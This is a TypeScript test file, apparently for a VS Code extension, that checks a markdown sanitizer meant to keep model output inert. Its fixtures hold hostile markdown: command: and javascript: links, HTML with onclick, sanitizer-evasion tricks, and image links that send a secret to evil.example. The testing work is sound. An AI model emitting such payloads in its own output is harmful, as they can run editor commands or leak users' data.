/** A model's text must not be active, however it is cut, nested and encoded. Code stays code. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import * as fc from 'fast-check';
import MarkdownIt, { type Token } from 'markdown-it';
import { sanitizeMarkdown, InertMarkdown } from '../../../src/text/sanitizeMarkdown.ts';

/** Like VS Code's preview, but without its protection: with HTML and every scheme. */
const parser = new MarkdownIt({ html: true });
parser.validateLink = () => true;

function tokensOf(text: string): Token[] {
  return parser.parse(text, {}).flatMap((token) => [token].concat(token.children ?? []));
}

/** Everything in a text that is active. */
function powers(text: string): string[] {
  return tokensOf(text).flatMap((token) => {
    if (token.type === 'html_block' || token.type === 'html_inline') return [token.content];
    if (token.type === 'image') return [`image ${token.attrGet('src')}`];
    const scheme = /^([a-z-]{2,}[a-z0-9+.-]*):/i.exec(token.attrGet('href') ?? '')?.[1];
    return scheme !== undefined && !/^(?:https?|mailto)$/i.test(scheme) ? [`link ${scheme}`] : [];
  });
}

/** The code in the rendered text. */
function codeOf(text: string): string[] {
  return tokensOf(text).flatMap(({ type, content }) =>
    type === 'fence' || type === 'code_inline' ? [content] : [],
  );
}

const dangerous = {
  'a link': '[Run](command:workbench.action.quickOpen)',
  'a link with blanks': '[Run]( <command:workbench.action.quickOpen> "title")',
  'a link whose address is on the next line': '[Run](\ncommand:workbench.action.quickOpen)',
  'a link in capitals': '[Run](COMMAND:workbench.action.quickOpen)',
  'a link with an entity': '[Run](&#99;ommand:x) [Run](comm&#97;nd:x) [Run](command&colon;x)',
  'another program':
    '[Run](vscode://codeworm.codeworm/x) [Run](file://server/share) [Run](javascript:alert(1))',
  'a definition': 'See [this].\n\n[this]: command:workbench.action.quickOpen',
  'a definition over two lines': '[this]\n\n[this]:\n  command:x',
  'an address in angle brackets': '<command:workbench.action.quickOpen>',
  'a picture': '![x](https://evil.example/?code=secret)',
  'a picture by reference': '![x][y]\n\n[y]: https://evil.example/z.png',
  'a picture in a link': '[![x](https://evil.example/a.png)](https://evil.example)',
  HTML: '<a href="command:x" onclick="alert(1)">x</a><img src=https://evil.example/a.png>',
  'HTML over lines': '<a\nhref="command:x"\n>x</a>',
  'a comment that hides the rest': '<!-- \n# heading\n',
  'HTML that seems to be in code': 'a ` b\n` <img src=x> `',
  'HTML in what a table makes of backticks': '| a | b |\n| - | - |\n| `a | <img src=x> | b` |',
  'HTML behind a fence that HTML hides': '<div>\n```\n\n<img src=x>\n```',
  'HTML behind a fence that a list ends': '- a\n  ```\n\n<img src=x>\n```\n<img src=y>',
  'HTML behind a fence in a list that is closed': '- ```\n  code\n  ```\n<img src=x>',
  'HTML behind a fence that a tab follows': '```\n```\t\n<img src=x>',
  'HTML behind a fence with a line separator': '```js\u2028a\n```\n<img src=x>',
  'a definition with a line separator': '[x\\\u2028]: command:x\n\n[x\\\u2028]',
  'HTML behind a fence in a quotation': '> ```\n<img src=x>\n ```\n<img src=y>\n```\n<img src=z>',
};

for (const [name, text] of Object.entries(dangerous)) {
  test(`is inactive: ${name}`, () => {
    assert.notDeepEqual(powers(text), [], 'the test itself');
    assert.deepEqual(powers(sanitizeMarkdown(text)), []);
  });
}

const harmless = {
  'plain text': 'It adds `item` to the list: a < b, b > c && d. See #3 & 4 [1].',
  'links to pages and places':
    '[a](https://a.example/?b=1&c=2) <https://a.example> [b](#there) [c](src/c.ts)',
  'fenced code': '```html\n<a href="command:x">![x](https://a.example)</a>\n```\nand\n~~~~\n<b>\n~~~\n~~~~',
  'code with an indented fence': '```go\n\t```\n    ```\n<b>\n```\n`<i>`',
  'code in backticks': 'a `List<String>` and ``<a href="`">``, `[x](command:y)`',
  'a fence in a list': '1. First:\n   ```html\n   <b>x</b>\n   ```\n2. Second `<i>`',
  'a fence as an item of a list': '- ```html\n  <b>x</b>\n  ```\n- `<i>`',
};

for (const [name, text] of Object.entries(harmless)) {
  test(`stays as it is: ${name}`, () => assert.equal(sanitizeMarkdown(text), text));
}

/** Pieces of dangerous texts. */
const pieces = fc.constantFrom(
  ...[
    '[x](',
    '![x](',
    ')',
    ']: ',
    '[x]',
    '[x][y]',
    '<',
    '>',
    'command:x',
    'https://e.example/a',
    '&#99;ommand:y',
  ],
  ...[
    '<img src=x>',
    '<a href="command:x">',
    '</a>',
    '<div>',
    '<!--',
    '-->',
    '<?',
    '<![CDATA[',
    '<command:z>',
  ],
  ...['`', '``', '```', '~~~', '````', '\\', '\\`', '|', '| - | - |', '"', "'", '(', '*', '_'],
  ...[
    '\n',
    '\n\n',
    '\n- ',
    '\n1. ',
    '\n10. ',
    '\n> ',
    '\n  ',
    '\n   ',
    '\n    ',
    '\n      ',
    '\n\t',
    '\n# ',
    '\n---\n',
  ],
  ...[
    'word',
    ' ',
    'a b',
    '\n```js\n',
    '\n```\n',
    '\n  ```\n',
    '\n   ```\n',
    '\n- ```\n',
    '\n> ```\n',
    '\n    ```\n',
  ],
  ...[
    '\t',
    '\u2028',
    '\u00A0',
    '\v',
    '\n```\t\n',
    '\n```js\u2028\n',
    '\n\t```\n',
    '\n- \t```\n',
    '\n~~~ `\n',
  ],
);
const texts = fc.array(pieces, { maxLength: 30 }).map((all) => all.join(''));

test('text made of any pieces is inactive', () => {
  fc.assert(
    fc.property(texts, (text) => {
      assert.deepEqual(powers(sanitizeMarkdown(text)), []);
    }),
    { numRuns: 20_000 },
  );
});

test('the result does not depend on the pieces', () => {
  fc.assert(
    fc.property(fc.array(pieces, { maxLength: 30 }), fc.infiniteStream(fc.nat(5)), (all, lengths) => {
      const text = all.join('');
      const inert = new InertMarkdown();
      let out = '';
      for (let at = 0; at < text.length;) {
        const { value } = lengths.next() as { value: number };
        out += inert.add(text.slice(at, at + value));
        at += value;
      }
      assert.equal(out + inert.end(), sanitizeMarkdown(text));
    }),
  );
});

test('code between fences without indentation is never changed', () => {
  const code = fc.array(
    pieces.filter((piece) => !/[`~]/.test(piece)),
    { maxLength: 10 },
  );
  fc.assert(
    fc.property(code, code, (before, inner) => {
      const block = `\`\`\`\n${inner.join('')}\n\`\`\``;
      const text = `${before.filter((piece) => /^[\w ]*$/.test(piece)).join('')}\n\n${block}\n`;
      assert.ok(sanitizeMarkdown(text).endsWith(`${block}\n`));
    }),
  );
});

test('only active content changes: code reads as before', () => {
  for (const text of Object.values(harmless)) assert.deepEqual(codeOf(sanitizeMarkdown(text)), codeOf(text));
});
